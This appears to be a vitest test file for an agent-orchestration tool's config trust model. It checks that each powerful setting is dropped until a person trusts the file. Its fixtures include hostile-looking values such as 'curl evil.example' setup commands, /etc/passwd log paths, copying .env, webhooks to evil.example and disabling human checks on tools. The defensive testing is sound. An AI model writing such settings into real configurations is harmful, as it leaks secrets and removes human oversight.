import { expect, test } from "vitest";
import * as z from "zod";
import { configSchema } from "../../contract/config/schema.ts";
import { parseConfig } from "./parse-config.ts";
import { powersOf } from "./powers.ts";
import { withoutPowers } from "./without-powers.ts";

type JsonSchema = z.core.JSONSchema.BaseSchema;

const ROLE = { id: "own", name: "n", description: "d", model: "m", systemPrompt: "s" };
const TOOL = { id: "t", name: "n", description: "d", promptInstructions: "p" };
const PERSON = { id: "eve", tokenHash: "a".repeat(64) };
const STDIO = { command: "sh" };
const HTTP = { url: "http://a.example" };

const server = (settings: unknown) => ({ mcpServers: { x: settings } });
const builtin = (settings: object) => ({ roles: [{ id: "research", ...settings }] });

const ALERTS = {
  alerts: {
    rules: [
      {
        on: ["task.failed"],
        to: ["webhook:x"],
        for: "all",
        quietHours: { from: "22:00", to: "07:00", timeZone: "Asia/Tokyo", days: ["mon"] },
        digest_ms: 1,
        urgent: true,
      },
    ],
    webhooks: { x: { url: "http://evil.example", secretEnv: "SECRET" } },
  },
};
const ALERT_POWERS = [
  ...["on", "to", "for", "quietHours", "digest_ms", "urgent"].map((key) => `alerts.rules.*.${key}`),
  ...["url", "urlEnv", "secretEnv", "allowAddresses"].map((key) => `alerts.webhooks.*.${key}`),
];

/** A value of each of these keys takes effect only after a person has trusted the file. */
const POWERS: Readonly<Record<string, unknown>> = {
  "server.bind": { server: { bind: "0.0.0.0" } },
  "server.trustedProxies": { server: { trustedProxies: ["0.0.0.0/0"] } },
  "server.labels": { server: { labels: ["sandbox"] } },
  "dashboard.hosts": { dashboard: { hosts: ["evil.example"] } },
  "dashboard.origins": { dashboard: { origins: ["http://evil.example"] } },
  "agent.hardKillAfter_ms": { agent: { hardKillAfter_ms: 2_000_000_000 } },
  "agent.maxOutput_mb": { agent: { maxOutput_mb: 0 } },
  "agent.maxSpool_bytes": { agent: { maxSpool_bytes: 9_000_000_000_000_000 } },
  "agent.acpCommand": { agent: { acpCommand: ["sh"] } },
  "agent.env": { agent: { env: ["SECRET"] } },
  "log.level": { log: { level: "error" } },
  "log.file": { log: { file: "/etc/passwd" } },
  "log.maxSize_mb": { log: { maxSize_mb: 100_000 } },
  "log.keepFiles": { log: { keepFiles: 0 } },
  "history.keep_days": { history: { keep_days: 1 } },
  ...Object.fromEntries(ALERT_POWERS.map((key) => [key, ALERTS])),
  "alerts.dashboardUrl": { alerts: { dashboardUrl: "http://evil.example" } },
  "telemetry.otlpEndpoint": { telemetry: { otlpEndpoint: "http://evil.example" } },
  "store.url": { store: { url: "postgres://eve@127.0.0.1/theirs" } },
  "store.urlFile": { store: { urlFile: "/etc/passwd" } },
  "tasks.unplannedTools": { tasks: { unplannedTools: "allow" } },
  "workspace.isolation": { workspace: { isolation: "none" } },
  "workspace.root": { workspace: { root: "/etc" } },
  "workspace.copy": { workspace: { copy: [".env"] } },
  "workspace.setup": { workspace: { setup: "curl evil.example" } },
  "workspace.check": { workspace: { check: "curl evil.example" } },
  "workspace.merge.target": { workspace: { merge: { target: "release" } } },
  "workspace.maxTotal_mb": { workspace: { maxTotal_mb: 0 } },
  "workspace.maxFile_mb": { workspace: { maxFile_mb: 1_000_000 } },
  "workspace.maxNewFiles": { workspace: { maxNewFiles: 1_000_000 } },
  "workspace.keepDecided_hours": { workspace: { keepDecided_hours: 0 } },
  "workspace.keepOpen_days": { workspace: { keepOpen_days: 1 } },
  "workspace.keepRefs_days": { workspace: { keepRefs_days: 1 } },
  "interrupt.hardStopAfter_ms": { interrupt: { hardStopAfter_ms: 0 } },
  "mcpServers.*.command": server(STDIO),
  "mcpServers.*.args": server({ ...STDIO, args: ["-c", "true"] }),
  "mcpServers.*.env": server({ ...STDIO, env: { A: "b" } }),
  "mcpServers.*.cwd": server({ ...STDIO, cwd: ".." }),
  "mcpServers.*.url": server(HTTP),
  "mcpServers.*.headers": server({ ...HTTP, headers: { a: "b" } }),
  "mcpServers.*.tools.*.readOnly": server({ ...STDIO, tools: { t: { readOnly: true } } }),
  "mcpServers.*.tools.*.disabled": server({ ...STDIO, tools: { t: { disabled: false } } }),
  "mcpServers.*.tools.*.humanCheck": server({ ...STDIO, tools: { t: { humanCheck: "never" } } }),
  "slack.publicUrl": { slack: { publicUrl: "https://kuro.example.com" } },
  "slack.people": { slack: { people: [{ user: "U1", person: "local" }] } },
  "slack.boards.*.channel": { slack: { boards: [{ channel: "C1" }] } },
  "slack.boards.*.team": { slack: { boards: [{ channel: "C1", team: "T1" }] } },
  "slack.boards.*.groups": { slack: { boards: [{ channel: "C1", groups: "magentic" }] } },
  "auth.users.*.id": { auth: { users: [PERSON] } },
  "auth.users.*.role": { auth: { users: [{ ...PERSON, role: "admin" }] } },
  "auth.users.*.tokenHash": { auth: { users: [PERSON] } },
  "roles.*.id": { roles: [ROLE] },
  "roles.*.name": builtin({ name: "n" }),
  "roles.*.description": builtin({ description: "d" }),
  "roles.*.systemPrompt": builtin({ systemPrompt: "s" }),
  "roles.*.healthCheckPrompt": builtin({ healthCheckPrompt: "s" }),
  "roles.*.tools": builtin({ tools: ["textlint"] }),
  "roles.*.mcpServers": builtin({ mcpServers: ["*"] }),
  "roles.*.access": builtin({ access: "read-write" }),
  "roles.*.isolation": builtin({ isolation: "none" }),
  "roles.*.onLost": builtin({ onLost: "requeue" }),
  "tools.*.id": { tools: [TOOL] },
  "tools.*.name": { tools: [TOOL] },
  "tools.*.description": { tools: [TOOL] },
  "tools.*.promptInstructions": { tools: [TOOL] },
  "tools.*.check": { tools: [{ ...TOOL, check: ["sh"] }] },
};

/**
 * Every value of each of these keys may take effect without trust: it grants nothing, or it only
 * restricts. Add a key here only after you have thought of the worst value that a stranger could write.
 */
const HARMLESS: readonly string[] = [
  "locale",
  "alerts.locale",
  "dashboard.port",
  // Fewer agents than the limits allow, or none here, and then agents say what they wait for.
  "server.slots",
  "log.format",
  "agent.runner",
  "agent.rehearseWithoutCli",
  "agent.maxConcurrent",
  "agent.maxQueued",
  "agent.maxOrchestrators",
  // Without it there is no limit.
  "agent.limits",
  "agent.defaultTimeout_ms",
  "agent.lingerAfterEnd_ms",
  // Like the timeout, which is off by default: a person sees the agent and can stop it.
  "agent.maxRetries",
  "agent.maxRetryTime_ms",
  "agent.maxEvents",
  "agent.maxToolCalls",
  "agent.connectWithin_ms",
  "healthCheck.enabled",
  "healthCheck.cacheTtl_ms",
  "healthCheck.timeout_ms",
  "healthCheck.concurrency",
  "prices.currency",
  "prices.models.*.input",
  "prices.models.*.output",
  "prices.models.*.cacheRead",
  "prices.models.*.cacheWrite",
  "tasks.maxRegenerations",
  "tasks.holdFor_ms",
  // The default policy is the most permissive one.
  "tasks.approval",
  "tasks.approvals.prompt",
  "tasks.approvals.process",
  "tasks.approvals.step",
  "tasks.approvals.unplanned_tool",
  "tasks.approvals.call",
  "tasks.approvals.question",
  "tasks.approvals.outcome",
  "tasks.approvals.merge",
  "tasks.approvalExpiry_ms",
  "tasks.remindAfter_ms",
  "tasks.types",
  // Agents run as the same user, so they could read uncommitted work and listen on ports anyway.
  "workspace.base",
  "workspace.ports.from",
  "workspace.ports.to",
  "workspace.ports.perAgent",
  // Without trust there is no command that they are about.
  "workspace.setupTimeout_ms",
  "workspace.checkTimeout_ms",
  // The person who approves a merge sees it.
  "workspace.merge.mode",
  "mcpServers.*.timeout_ms",
  "mcpServers.*.disabled",
  "mcpServers.*.placement",
  "slack.mode",
  "auth.users.*.name",
  // Without trust it is about the database of a variable that the person has set.
  "store.connections",
  "store.lease_ms",
  "telemetry.serviceName",
  "telemetry.interval_ms",
  "roles.*.model",
  "roles.*.runner",
  // They leave fewer hosts, and every caller may name some. A label that a trusted file had and has
  // no more is a lost restriction.
  "roles.*.labels",
  "roles.*.disabled",
];

/** Maps with keys of the user's choice that count as one setting. */
const WHOLE = new Set([
  "agent.limits",
  "mcpServers.*.env",
  "mcpServers.*.headers",
  "roles.*.model",
]);

function keysOf(schema: JsonSchema, path = ""): readonly string[] {
  if (WHOLE.has(path)) return [path];
  const below = Object.entries(schema.properties ?? {}).map(
    ([key, child]) => [key, child] as const,
  );
  const each = [schema.items, schema.additionalProperties]
    .flat()
    .map((child) => ["*", child] as const);
  const nested = [...below, ...each].flatMap(([key, child]) =>
    typeof child === "object" && (key !== "*" || isMap(child))
      ? keysOf(child, path === "" ? key : `${path}.${key}`)
      : [],
  );
  return nested.length > 0 ? nested : [path];
}

function isMap(schema: JsonSchema): boolean {
  return schema.properties !== undefined || typeof schema.additionalProperties === "object";
}

function read(settings: unknown) {
  const { config, problems } = parseConfig(JSON.stringify(settings), "test.yaml");
  if (!config || problems.length > 0)
    throw new Error(problems.map(({ text }) => text.en).join("\n"));
  return config;
}

test("every key of the schema is classified as a power or as harmless", () => {
  const keys = keysOf(z.toJSONSchema(configSchema));

  expect(keys.toSorted()).toEqual([...Object.keys(POWERS), ...HARMLESS].toSorted());
});

test.each(Object.entries(POWERS))("%s has no effect without trust", (_key, settings) => {
  const config = read(settings);
  expect(powersOf(config)).toHaveLength(1);

  const left = withoutPowers(config, () => false);

  // The person stays, so that sign-in stays necessary, but no token matches.
  const people = config.auth.users.map((user) => ({ ...user, tokenHash: "0".repeat(64) }));
  const roles = config.roles.filter(({ id }) => id !== ROLE.id).map(({ id }) => ({ id }));
  expect(left).toEqual(
    read({ ...(people.length > 0 && { auth: { users: people } }), ...(roles[0] && { roles }) }),
  );
});
